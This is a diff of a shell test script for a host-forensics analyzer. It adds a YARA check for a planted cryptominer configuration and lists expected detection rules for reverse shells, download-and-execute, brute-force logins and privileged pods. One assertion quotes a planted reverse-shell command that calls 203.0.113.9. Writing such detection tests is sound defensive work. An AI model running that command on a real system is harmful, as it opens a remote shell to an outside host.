@@ -11,7 +11,8 @@
 # podman's drift of data files, pods without host access, the control
 # plane's own secret reads, an audit log of a successful local su). A
 # hand-written sshd audit log gives the brute-force and remote-root
-# login findings.
+# login findings. The content rules (YARA) read a dropped miner
+# configuration from the stored root.
 set -u
 . "$(dirname "$0")/../lib/lib.sh"
 
@@ -49,7 +50,7 @@ if [ -d ../shared/fixtures/k8saudit ]; then
 fi
 dk analyze "$C" --only host
 expect_rc 0 "the host analyzer runs"
-want="host.audit.login_bruteforce host.audit.root_login host.daemon.insecure_registry host.daemon.insecure_registry host.daemon.tcp_no_tls host.daemon.tcp_no_tls host.daemon.userns_off host.drift.accounts host.drift.binary_modified host.drift.exec_new host.drift.logs_removed host.k8s.exec host.k8s.secret_read host.log.download_exec host.log.error_burst host.log.revshell host.log.shell_prompt"
+want="host.audit.login_bruteforce host.audit.root_login host.daemon.insecure_registry host.daemon.insecure_registry host.daemon.tcp_no_tls host.daemon.tcp_no_tls host.daemon.userns_off host.drift.accounts host.drift.binary_modified host.drift.exec_new host.drift.logs_removed host.drift.miner.config host.k8s.exec host.k8s.secret_read host.log.download_exec host.log.error_burst host.log.revshell host.log.shell_prompt"
 [ -d ../shared/fixtures/k8saudit ] && want="$want host.k8s.privileged_pod host.k8s.privileged_pod host.k8s.role_binding host.k8s.sensitive_mount"
 expect_eq "every planted case, once" "$(echo $want | tr ' ' '\n' | sort | tr '\n' ' ' | sed 's/ $//')" \
 	"$(q "$C" "select rule from findings where analyzer = 'host' order by rule" | tr '\n' ' ' | sed 's/ $//')"
@@ -59,6 +60,9 @@ expect_eq "the exposed daemons: 2375 from daemon.json, 2376 from the drop-in (23
 expect_eq "drift findings name their paths and point at the first drift row and the container" \
 	"A /tmp/x.|drift|containers" \
 	"$(q "$C" "select substr(f.detail, -9) || '|' || (select group_concat(relation, '|') from (select relation from finding_evidence e where e.finding_id = f.id order by ord)) from findings f where f.rule = 'host.drift.exec_new'")"
+expect_eq "a content rule (YARA) over the added file's stored bytes: the miner configuration, its drift row" \
+	"high|/tmp/.cfg.json|drift|$(q "$C" "select key from drift where path = '/tmp/.cfg.json'")" \
+	"$(q "$C" "select f.severity || '|' || substr(f.title, instr(f.title, ': ') + 2) || '|' || e.relation || '|' || e.key from findings f join finding_evidence e on e.finding_id = f.id where f.rule = 'host.drift.miner.config'")"
 expect_eq "log findings quote the first matching line" \
 	"root@web-7d9:/app# bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" \
 	"$(q "$C" "select substr(detail, instr(detail, 'the first: ') + 11) from findings where rule = 'host.log.revshell'")"
